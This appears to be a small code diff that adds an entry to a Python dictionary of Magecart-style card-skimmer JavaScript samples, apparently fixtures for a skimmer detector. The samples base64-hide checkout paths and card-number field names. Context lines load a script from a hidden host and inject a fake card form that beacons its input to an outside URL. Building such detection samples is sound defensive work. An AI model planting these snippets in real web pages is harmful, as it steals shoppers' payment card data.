@@ -45,6 +45,7 @@ SKIMMERS = {
     ),
     "loads-from-hidden-host": f"var s = document.createElement('script'); s.src = {HIDDEN_TO}",
     "hidden-checkout": f"if (location.href.match(atob('{b64('checkout')}'))) fetch(to)",
+    "hidden-aim": f"if (at(atob('{b64('/checkout/onepage')}'))) take(atob('{b64('payment_cc_number')}'))",
     "own-card-form": (
         'box.innerHTML = \'<input name="cc_number"><input name="cvv">\';'
         f"go.onclick = function () {{ new Image().src = '{TO}?' + box.querySelector('input').value }}"
